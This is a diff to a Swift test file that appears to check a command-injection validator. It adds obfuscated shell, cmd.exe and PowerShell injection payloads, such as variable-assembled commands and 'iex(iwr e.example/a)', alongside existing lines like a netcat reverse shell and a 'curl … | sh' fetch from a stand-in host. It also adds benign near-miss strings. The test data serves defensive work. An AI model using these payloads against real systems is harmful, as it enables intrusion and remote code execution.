@@ -61,6 +61,11 @@ import Testing
         ";cat /etc/group|base64", ";id>&2", "x;ls -la /home", "x;find / -name '*.conf'", ";touch /tmp/pwn",
         ";chmod +x /tmp/s;/tmp/s", ";./s.sh", "x; head -n 3 /etc/group", ";crontab -l", "|| sleep 3 &",
         "%250aid", "x%253Bid", "%26%26whoami",
+        // fifth batch: cmd.exe substrings, PowerShell forms, variable assembly
+        "x;cat${IFS}${HOME:0:1}etc${HOME:0:1}group", "x;a=c;b=at;$a$b /etc/group", "x;$(tr '!-~' 'P-~!-O' <<< 9:5)",
+        "x;`tr a-z n-za-m <<< vq`", "x & set x=whoami&& call %x%", "x & %COMSPEC:~-7,1%", "x & echo %PROGRAMFILES:~10,5%",
+        "x; iex(iwr e.example/a)", "x; IEX (IWR e.example)", "x; Invoke-Expression 'whoami'",
+        "x;[System.Diagnostics.Process]::Start('calc')", "x;$env:comspec /c whoami", "x | & $env:ComSpec /c ver",
         // whole-value commands (the parameter is passed to a shell as is)
         "cat /etc/group", "whoami", "uname -a", "ls -la /", "nc -e /bin/sh 10.0.0.5 4444", "wget http://e.example/x.sh -O /tmp/x.sh",
         "curl http://e.example/x | sh", "ping -c 10 127.0.0.1", "sleep 5", "powershell -enc SQBFAFgA", "cmd /c dir",
@@ -116,6 +121,7 @@ import Testing
         "Terms & Conditions; Privacy | Cookies", "Sun & Moon | Stars", "ping pong", "find me", "sort by name",
         "He said: \"I'm done; bye\"", "a;b;c", "1;2;3", "x|y|z", "key=value;other=thing", "N/A", "TBD; see notes",
         "R&D | Sales & Marketing", "Hello; how are you?", "date & time", "head & shoulders", "dir: left",
+        "50%: ~half", "ratio 3:~4", "env: production", "$env is set", "call me; sleep tight", "IEX (Investors Exchange) listing",
     ]
 
     @Test(arguments: nearMisses)
